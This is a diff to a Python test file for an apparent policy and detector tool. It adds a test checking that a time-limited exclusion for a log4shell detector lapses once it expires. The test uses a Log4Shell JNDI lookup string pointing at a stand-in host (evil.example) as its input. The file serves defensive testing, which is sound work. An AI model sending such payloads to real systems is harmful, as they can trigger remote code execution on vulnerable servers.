@@ -1,6 +1,7 @@
 """A policy that cannot be used: it says so, and the function runs, or is refused where `block` asks."""
 
 import shutil
+import time
 import zlib
 from datetime import date, timedelta
 
@@ -178,6 +179,15 @@ def test_a_policy_that_will_expire_is_just_in_force(start):
     (status,) = start(CODE, {"HAUBERK_POLICY": variable}).invoke({}).statuses
     assert (status["state"], status["policy"]["state"]) == ("armed", "signed")
     assert status["policy"]["fingerprint"] == fingerprint(public_bytes(KEY.public_key()))
+
+
+@pytest.mark.parametrize("is_over", [False, True], ids=["in force", "over"])
+def test_an_exclusion_is_left_out_once_its_time_is_over(start, is_over):
+    expires = int(time.time()) + (-3_600 if is_over else 3_600)
+    exclusion = {"name": "e", "detector": "log4shell", "patterns": ["**"], "expires": expires}
+    running = start(CODE, {"HAUBERK_POLICY": sealed("open", exclusions=[exclusion])})
+    seen = running.invoke({"q": "${jndi:ldap://evil.example/a}"})
+    assert (seen.payload == b'"ran"') == (not is_over)
 
 
 TRUST = [
